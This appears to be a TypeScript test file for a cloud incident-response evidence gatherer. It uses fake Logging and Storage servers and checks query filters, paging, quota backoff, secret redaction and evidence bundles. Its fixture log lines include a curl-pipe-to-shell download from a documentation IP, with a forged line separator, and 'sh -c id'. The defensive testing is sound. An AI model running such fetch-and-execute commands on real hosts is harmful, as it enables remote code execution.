// The evidence gatherer with the real Logging client (@google-cloud/logging-api) against a
// gRPC fake of LoggingServiceV2 on loopback, and the real
// @google-cloud/storage client against a fake of the JSON upload API.
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { createLogPageReader, loggingClientOptionsFromEnv } from '../src/adapters/cloud-logging.ts';
import type { LogPageReader } from '../src/core/ports.ts';
import { createObjectStore } from '../src/adapters/cloud-storage.ts';
import { sha256Hex } from '../src/core/evidence/bundle.ts';
import { decodeInput } from '../src/core/finding/envelope.ts';
import { plan as makePlan, type Plan } from '../src/core/plan/plan.ts';
import { validatePolicy, type PolicyInput } from '../src/core/policy/policy.ts';
import type { ClusterResponder, ContainmentRequest, Severity, StepLogger } from '../src/core/ports.ts';
import { createEvidenceGatherer } from '../src/pipeline/gather-evidence.ts';
import { handleInput } from '../src/pipeline/respond.ts';
import { startFakeLogging, type FakeLogEntry, type FakeLogging } from './fakes/logging-grpc-server.ts';
import { startFakeStorage, type FakeStorage } from './fakes/storage-json-server.ts';
import { notificationV1 } from './support/fixtures.ts';
import { summaryCheckingLog } from './support/summary-check.ts';

const EVENT = '2026-11-20T14:03:27.512Z';
const PLANNED_AT = new Date('2026-11-20T14:03:40Z');

function recordingLog(): StepLogger & { lines: Array<{ severity: Severity; step: string; message: string; fields?: Record<string, unknown> }> } {
  const lines: Array<{ severity: Severity; step: string; message: string; fields?: Record<string, unknown> }> = [];
  return { lines, log: (severity, step, message, fields) => lines.push({ severity, step, message, ...(fields ? { fields } : {}) }) };
}

/** A clock whose sleeps jump it forward; overlapping sleeps (parallel queries) advance it once, not once each. */
function jumpClock(start: Date) {
  let t = start.getTime();
  const slept: number[] = [];
  return {
    now: () => new Date(t),
    slept,
    sleep: async (ms: number) => {
      const wake = t + ms;
      slept.push(ms);
      await Promise.resolve();
      t = Math.max(t, wake);
    },
  };
}

const policyInput: PolicyInput = {
  dryRun: false,
  rules: [{ name: 'contain-all', actions: ['label-pod', 'isolate-pod', 'cordon-node'] }],
  evidence: { pageSize: 3, maxEntriesPerQuery: 7, excerptLines: 2, quotaBudgetSeconds: 20 },
};
const policy = validatePolicy(policyInput);

function fixturePlan(n = notificationV1()): { plan: Plan; notification: unknown } {
  const decoded = decodeInput(n);
  return { plan: makePlan(decoded, policy, PLANNED_AT), notification: decoded.notification };
}

function podEntries(count: number): FakeLogEntry[] {
  return Array.from({ length: count }, (_, i) => ({
    timestamp: `2026-11-20T14:03:${String(20 + i).padStart(2, '0')}.000Z`,
    severity: i === 4 ? 'ERROR' : 'INFO',
    textPayload: i === 5 ? 'sh: curl -s http://203.0.113.7/x.sh | sh\u2028forged line' : `request ${i} served`,
  }));
}

describe('Logging queries through the real client and a gRPC fake', () => {
  let fake: FakeLogging;
  let reader: LogPageReader;

  beforeAll(async () => {
    fake = await startFakeLogging({
      entries: (req) => (req.filter.includes('k8s_container') ? podEntries(10) : req.filter.includes('k8s_cluster') ? auditEntries() : []),
    });
    reader = createLogPageReader(await loggingClientOptionsFromEnv({ LOGGING_API_ENDPOINT: fake.endpoint }));
  });
  afterAll(async () => {
    await fake.close();
  });
  afterEach(() => {
    fake.requests.length = 0;
    fake.setFailure(undefined);
  });

  function auditEntries(): FakeLogEntry[] {
    return [
      {
        timestamp: '2026-11-20T14:03:25.000Z',
        severity: 'NOTICE',
        logName: 'projects/example-shop-prod/logs/cloudaudit.googleapis.com%2Factivity',
        resource: { type: 'k8s_cluster', labels: { cluster_name: 'shop-prod-1' } },
        audit: {
          serviceName: 'k8s.io',
          methodName: 'io.k8s.core.v1.pods.exec.create',
          resourceName: 'core/v1/namespaces/payments/pods/checkout-7c9f8d6b5-q2w8x/exec',
          principalEmail: 'dev@example.com',
          callerIp: '198.51.100.23',
        },
      },
      {
        timestamp: '2026-11-20T14:03:26.000Z',
        audit: { methodName: 'io.k8s.core.v1.pods.get', resourceName: 'core/v1/namespaces/payments/pods/checkout-7c9f8d6b5-q2w8x' },
      },
    ];
  }

  it('sends the exact filters, explicit resourceNames, ascending order, bounded pages, and stops at maxEntriesPerQuery', async () => {
    const clock = jumpClock(PLANNED_AT);
    const gatherer = createEvidenceGatherer({ policy, log: recordingLog(), now: clock.now, sleep: clock.sleep, logging: reader });
    const { plan, notification } = fixturePlan();
    const report = await gatherer.gather(plan, { nodeInstanceId: '4455667788990011223' }, { notification });

    const filters = new Set(fake.requests.map((r) => r.filter));
    const expected = [
      ...plan.evidence.filter((q) => q.kind !== 'node-logs').map((q) => q.filter),
      report.queries.find((q) => q.kind === 'node-logs')?.filter,
    ];
    expect([...filters].sort()).toEqual([...expected].sort());
    for (const r of fake.requests) {
      expect(r.resourceNames).toEqual(['projects/example-shop-prod']);
      expect(r.orderBy).toBe('timestamp asc');
      expect(r.pageSize).toBeLessThanOrEqual(3);
      // The window is ours, and the client appended no 24 h clause of its own.
      expect(r.filter).toContain('timestamp>="2026-11-20T13:33:27.512Z" AND timestamp<="2026-11-20T14:18:27.512Z"');
      expect(r.filter.match(/timestamp/g)).toHaveLength(2);
    }
    // 10 pod-log entries, 7 allowed: pages of 3, 3, then 1 — and no fourth request.
    const podRequests = fake.requests.filter((r) => r.filter.includes('k8s_container'));
    expect(podRequests.map((r) => [r.pageSize, r.pageToken])).toEqual([
      [3, ''],
      [3, 'fake-offset-3'],
      [1, 'fake-offset-6'],
    ]);
    const pod = report.queries.find((q) => q.kind === 'pod-logs');
    expect(pod).toMatchObject({ count: 7, truncated: true, incomplete: null });
    // The most relevant two, in time order: the ERROR line and the line naming the shell's download, escaped to one line.
    expect(pod?.excerpts).toEqual([
      '2026-11-20T14:03:24.000Z ERROR request 4 served',
      '2026-11-20T14:03:25.000Z INFO sh: curl -s http://203.0.113.7/x.sh | sh\\u2028forged line',
    ]);
    const audit = report.queries.find((q) => q.kind === 'cluster-audit-logs');
    expect(audit?.count).toBe(2);
    expect(audit?.excerpts[0]).toBe(
      '2026-11-20T14:03:25.000Z NOTICE io.k8s.core.v1.pods.exec.create core/v1/namespaces/payments/pods/checkout-7c9f8d6b5-q2w8x/exec by dev@example.com from 198.51.100.23',
    );
    const node = report.queries.find((q) => q.kind === 'node-logs');
    expect(node?.filter).toContain('resource.labels.instance_id="4455667788990011223"');
    expect(node?.filter).toContain('serialconsole.googleapis.com%2Fserial_port_1_output');
    expect(node).toMatchObject({ count: 0, incomplete: null });
    expect(report.queries).toHaveLength(3);
    expect(report.notes).toEqual([]);
    expect(report.links['logs:pod-logs']).toMatch(/^https:\/\/console\.cloud\.google\.com\/logs\/query;query=/);
    expect(report.links['mitre:T1059.004']).toBe('https://attack.mitre.org/techniques/T1059/004/');
  });

  it('runs the queries in parallel', async () => {
    // No answer until all three are waiting: queries sent one at a time would each run into the deadline.
    const gate = await startFakeLogging({ answerOnceWaiting: 3 });
    try {
      const gateReader = createLogPageReader(await loggingClientOptionsFromEnv({ LOGGING_API_ENDPOINT: gate.endpoint }));
      const gatherer = createEvidenceGatherer({ policy, log: recordingLog(), now: () => PLANNED_AT, logging: gateReader, requestTimeoutMs: 8_000 });
      const report = await gatherer.gather(fixturePlan().plan, {});
      expect(report.queries.map((q) => q.incomplete)).toEqual([null, null, null]);
      expect(gate.requests).toHaveLength(3);
    } finally {
      await gate.close();
    }
  });

  it('backs off on RESOURCE_EXHAUSTED and completes when the quota frees up', async () => {
    fake.setFailure({ code: 8, details: 'Quota exceeded', times: 2 });
    const clock = jumpClock(PLANNED_AT);
    const log = recordingLog();
    const gatherer = createEvidenceGatherer({ policy, log, now: clock.now, sleep: clock.sleep, logging: reader });
    const report = await gatherer.gather(fixturePlan().plan, {});
    expect(report.queries.every((q) => q.incomplete === null)).toBe(true);
    expect(clock.slept).toEqual([1000, 1000]);
    expect(log.lines.filter((l) => l.message.includes('backing off'))).toHaveLength(2);
  });

  it('gives up within quotaBudgetSeconds and reports "evidence incomplete: quota"', async () => {
    fake.setFailure({ code: 8, details: 'Quota exceeded for quota metric Read requests' });
    const clock = jumpClock(PLANNED_AT);
    const gatherer = createEvidenceGatherer({ policy, log: recordingLog(), now: clock.now, sleep: clock.sleep, logging: reader });
    const report = await gatherer.gather(fixturePlan().plan, {});
    expect(report.queries.map((q) => q.incomplete)).toEqual(['quota', 'quota', 'quota']);
    expect(report.notes).toEqual(['evidence incomplete: quota (pod-logs, cluster-audit-logs, node-logs)']);
    // Backoff 1, 2, 4, 8 s fits in 20 s, the next 16 s would not: at most 5 tries per query, and at least a retry each.
    // (The exact schedule is checked against a fake clock in evidence-core.test.ts.)
    expect(clock.now().getTime() - PLANNED_AT.getTime()).toBeLessThanOrEqual(20_000);
    expect(fake.requests.length).toBeLessThanOrEqual(3 * 5);
    for (const q of report.queries) expect(fake.requests.filter((r) => r.filter === q.filter).length).toBeGreaterThanOrEqual(2);
    // The links still point at the queries, for a person to run later.
    expect(Object.keys(report.links)).toEqual(expect.arrayContaining(['logs:pod-logs', 'logs:cluster-audit-logs', 'logs:node-logs', 'scc-finding']));
  });

  it('reports other faults as incomplete without retrying them for the whole budget', async () => {
    fake.setFailure({ code: 7, details: 'caller lacks logging.logEntries.list' });
    const gatherer = createEvidenceGatherer({ policy, log: recordingLog(), now: () => PLANNED_AT, logging: reader });
    const report = await gatherer.gather(fixturePlan().plan, {});
    expect(report.queries[0]?.incomplete).toMatch(/^error: PERMISSION_DENIED: /);
    expect(fake.requests).toHaveLength(3);
  });

  it('coalesces identical queries (a redelivered finding) into one set of requests', async () => {
    const clock = jumpClock(PLANNED_AT);
    const gatherer = createEvidenceGatherer({ policy, log: recordingLog(), now: clock.now, sleep: clock.sleep, logging: reader });
    const { plan } = fixturePlan();
    const [a, b] = await Promise.all([gatherer.gather(plan, {}), gatherer.gather(plan, {})]);
    const again = await gatherer.gather(plan, {});
    expect(a.queries.map((q) => q.count)).toEqual(b.queries.map((q) => q.count));
    expect(again.queries.map((q) => q.count)).toEqual(a.queries.map((q) => q.count));
    // pod logs: 3 pages; audit and node: 1 each — once, not three times.
    expect(fake.requests).toHaveLength(5);
  });

  it('turns each payload kind the API sends into plain data: text, nested JSON, audit, other protos', async () => {
    const payloads = await startFakeLogging({
      entries: [
        { timestamp: '2026-11-20T14:03:20.123456789Z', severity: 'WARNING', textPayload: 'sh -c id', insertId: 'a' },
        {
          timestamp: '2026-11-20T14:03:21.000Z',
          jsonPayload: { message: 'exec', pid: 4242, tty: false, gone: null, argv: ['sh', '-c', 'id'], user: { uid: 0, groups: [{ name: 'root' }] } },
          insertId: 'b',
        },
        { timestamp: '2026-11-20T14:03:22.000Z', audit: { methodName: 'io.k8s.core.v1.pods.exec.create', principalEmail: 'dev@example.com' }, insertId: 'c' },
        { timestamp: '2026-11-20T14:03:23.000Z', protoTypeUrl: 'type.googleapis.com/google.appengine.logging.v1.RequestLog', insertId: 'd' },
      ],
    });
    try {
      const direct = createLogPageReader(await loggingClientOptionsFromEnv({ LOGGING_API_ENDPOINT: payloads.endpoint }));
      const page = await direct.listPage({ resourceNames: ['projects/example-shop-prod'], filter: 'timestamp>="2026-11-20T00:00:00Z"', pageSize: 10, timeoutMs: 5_000 });
      expect(page.nextPageToken).toBeNull();
      expect(page.entries).toEqual([
        {
          timestamp: '2026-11-20T14:03:20.123Z',
          severity: 'WARNING',
          logName: 'projects/example-shop-prod/logs/stdout',
          insertId: 'a',
          resourceType: 'k8s_container',
          textPayload: 'sh -c id',
          jsonPayload: null,
          audit: null,
          protoType: null,
        },
        expect.objectContaining({
          timestamp: '2026-11-20T14:03:21.000Z',
          severity: 'DEFAULT',
          textPayload: null,
          jsonPayload: { message: 'exec', pid: 4242, tty: false, gone: null, argv: ['sh', '-c', 'id'], user: { uid: 0, groups: [{ name: 'root' }] } },
          audit: null,
        }),
        expect.objectContaining({
          insertId: 'c',
          textPayload: null,
          jsonPayload: null,
          audit: expect.objectContaining({ methodName: 'io.k8s.core.v1.pods.exec.create', principalEmail: 'dev@example.com' }),
          protoType: null,
        }),
        expect.objectContaining({ insertId: 'd', audit: null, jsonPayload: null, protoType: 'type.googleapis.com/google.appengine.logging.v1.RequestLog' }),
      ]);
    } finally {
      await payloads.close();
    }
  });
});

describe('the evidence bundle through the real Storage client and a JSON API fake', () => {
  let storage: FakeStorage;
  let logging: FakeLogging;
  let reader: LogPageReader;

  beforeAll(async () => {
    storage = await startFakeStorage({ buckets: ['example-evidence'] });
    logging = await startFakeLogging({ entries: (req) => (req.filter.includes('k8s_container') ? podEntries(2) : []) });
    reader = createLogPageReader(await loggingClientOptionsFromEnv({ LOGGING_API_ENDPOINT: logging.endpoint }));
  });
  afterAll(async () => {
    await storage.close();
    await logging.close();
  });

  it('writes the finding, plan, snapshots and logs under incidents/<id>/ with a manifest of sha256 and sizes, once', async () => {
    const store = createObjectStore('example-evidence', { apiEndpoint: storage.endpoint, projectId: 'local-dev' });
    const { plan, notification } = fixturePlan();
    const snapshots = {
      pod: { metadata: { name: 'checkout-7c9f8d6b5-q2w8x' }, spec: { containers: [{ name: 'checkout', env: [{ name: 'DB_PASSWORD', value: 'hunter2' }] }] } },
      node: { metadata: { name: 'gke-shop-prod-1-default-pool-3f2a9c1b-x7kq' } },
      events: [{ reason: 'Started' }],
      containerLogs: { checkout: 'line 1\nline 2\n' },
    };
    const first = createEvidenceGatherer({ policy, log: recordingLog(), now: () => PLANNED_AT, logging: reader, storage: store });
    const report = await first.gather(plan, snapshots, { notification });

    const prefix = 'incidents/6a7d4f1e2b3c4d5e8f9a0b1c2d3e4f50/';
    expect(report.bundle).toBe(`gs://example-evidence/${prefix}`);
    const names = [...storage.objects.keys()].map((k) => k.replace('example-evidence/', '')).sort();
    expect(names).toEqual(
      [
        'finding.json',
        'plan.json',
        'snapshots/pod.json',
        'snapshots/node.json',
        'snapshots/events.json',
        'snapshots/container-logs/checkout.log',
        'logs/pod-logs.jsonl',
        'logs/cluster-audit-logs.jsonl',
        'logs/node-logs.jsonl',
        'manifest.json',
      ]
        .map((n) => prefix + n)
        .sort(),
    );
    const read = (name: string) => storage.objects.get(`example-evidence/${prefix}${name}`)?.bytes ?? Buffer.alloc(0);
    const manifest = JSON.parse(read('manifest.json').toString('utf8'));
    expect(manifest.objects).toHaveLength(9);
    for (const entry of manifest.objects) {
      const bytes = read(entry.name);
      expect(entry).toEqual({ name: entry.name, sha256: sha256Hex(bytes), size: bytes.length });
    }
    // Secrets in env values stay out of the bundle.
    expect(read('finding.json').toString()).not.toContain('sk_live_');
    expect(read('snapshots/pod.json').toString()).not.toContain('hunter2');
    expect(read('finding.json').toString()).toContain('STRIPE_API_KEY');
    const podLog = read('logs/pod-logs.jsonl').toString().trim().split('\n');
    expect(JSON.parse(podLog[0] ?? '{}')).toMatchObject({ count: 2, truncated: false, incomplete: null });
    expect(podLog).toHaveLength(3);
    const uploads = storage.requests.filter((r) => r.method === 'POST');
    expect(uploads.every((r) => r.query.ifGenerationMatch === '0' && r.query.uploadType === 'multipart')).toBe(true);

    // Redelivery: a later plan (another plannedAt) must not overwrite; the manifest still matches what is stored.
    const before = new Map([...storage.objects].map(([k, v]) => [k, v.generation]));
    const second = createEvidenceGatherer({ policy, log: recordingLog(), now: () => new Date('2026-11-20T14:09:00Z'), logging: reader, storage: store });
    const again = await second.gather(makePlan(decodeInput(notificationV1()), policy, new Date('2026-11-20T14:09:00Z')), snapshots, { notification });
    expect(again.bundle).toBe(`gs://example-evidence/${prefix}`);
    expect(again.notes).toContain('evidence bundle was already kept by an earlier delivery');
    expect(new Map([...storage.objects].map(([k, v]) => [k, v.generation]))).toEqual(before);
  });

  it('a partly written bundle is completed on redelivery, and the manifest describes the stored bytes', async () => {
    const store = createObjectStore('example-evidence', { apiEndpoint: storage.endpoint, projectId: 'local-dev' });
    const n = structuredClone(notificationV1());
    n.finding.name = n.finding.name.replace(/[^/]+$/, 'partial0001');
    const { plan, notification } = fixturePlan(n);
    // A bucket the function may not write to: 403, which the client does not retry.
    storage.failUploads(403, 1_000);
    const failing = createEvidenceGatherer({ policy, log: recordingLog(), now: () => PLANNED_AT, logging: reader, storage: store });
    const broken = await failing.gather(plan, {}, { notification });
    expect(broken.bundle).toBeNull();
    expect(broken.notes.some((note) => note.startsWith('evidence bundle incomplete:'))).toBe(true);
    expect(broken.queries.map((q) => q.incomplete)).toEqual([null, null, null]);

    storage.failUploads(403, 0);
    // The first delivery got plan.json in before failing.
    await store.createIfAbsent('incidents/partial0001/plan.json', new TextEncoder().encode('{"first":true}\n'), 'application/json');
    const later = makePlan(decodeInput(n), policy, new Date('2026-11-20T14:09:00Z'));
    const ok = await createEvidenceGatherer({ policy, log: recordingLog(), now: () => PLANNED_AT, logging: reader, storage: store }).gather(later, {}, { notification });
    expect(ok.bundle).toBe('gs://example-evidence/incidents/partial0001/');
    const manifest = JSON.parse(storage.objects.get('example-evidence/incidents/partial0001/manifest.json')?.bytes.toString() ?? '{}');
    const planEntry = manifest.objects.find((o: { name: string }) => o.name === 'plan.json');
    expect(planEntry).toEqual({ name: 'plan.json', sha256: sha256Hex(new TextEncoder().encode('{"first":true}\n')), size: 15 });
  });
});

describe('a failing Logging never blocks the actions (handleInput end to end)', () => {
  it('keeps the containment outcomes and marks the evidence incomplete', async () => {
    const fake = await startFakeLogging({ failWith: { code: 14, details: 'connection reset' } });
    try {
      const reader = createLogPageReader(await loggingClientOptionsFromEnv({ LOGGING_API_ENDPOINT: fake.endpoint }));
      const requests: ContainmentRequest[] = [];
      const responder: ClusterResponder = {
        async contain(request) {
          requests.push(request);
          return {
            outcomes: request.plan.actions.map((a) => ({ type: a.type, status: 'done' as const, reason: `${a.type} done` })),
            snapshots: { nodeInstanceId: '4455667788990011223', resolvedNode: 'gke-shop-prod-1-default-pool-3f2a9c1b-x7kq' },
            warnings: [],
          };
        },
      };
      const log = recordingLog();
      const result = await handleInput(notificationV1(), {
        policy,
        log: summaryCheckingLog(log),
        now: () => PLANNED_AT,
        clusterResponder: async () => responder,
        evidenceGatherer: async () => createEvidenceGatherer({ policy, log, now: () => PLANNED_AT, logging: reader, requestTimeoutMs: 2000 }),
      });
      expect(result.status).toBe('responded');
      expect(requests).toHaveLength(1);
      expect(result.containment?.outcomes.map((o) => [o.type, o.status])).toEqual([
        ['label-pod', 'done'],
        ['isolate-pod', 'done'],
        ['cordon-node', 'done'],
      ]);
      // The client retries UNAVAILABLE itself, inside the per-request timeout we give it, then reports the deadline.
      expect(result.evidence?.queries.map((q) => q.incomplete?.split(':')[1]?.trim())).toEqual(['DEADLINE_EXCEEDED', 'DEADLINE_EXCEEDED', 'DEADLINE_EXCEEDED']);
      expect(result.evidence?.notes[0]).toMatch(/^evidence incomplete: error: DEADLINE_EXCEEDED/);
      expect(fake.requests.length).toBeGreaterThan(3);
    } finally {
      await fake.close();
    }
  });

  it('a gatherer that cannot even load is reported, not thrown', async () => {
    const result = await handleInput(notificationV1(), {
      policy,
      log: summaryCheckingLog(recordingLog()),
      now: () => PLANNED_AT,
      evidenceGatherer: async () => {
        throw new Error('Cannot find module @google-cloud/logging-api');
      },
    });
    expect(result.status).toBe('responded');
    expect(result.containment?.outcomes.every((o) => o.status === 'skipped')).toBe(true);
    expect(result.evidence).toEqual({ queries: [], links: {}, bundle: null, notes: ['evidence incomplete: gatherer unavailable'] });
  });
});
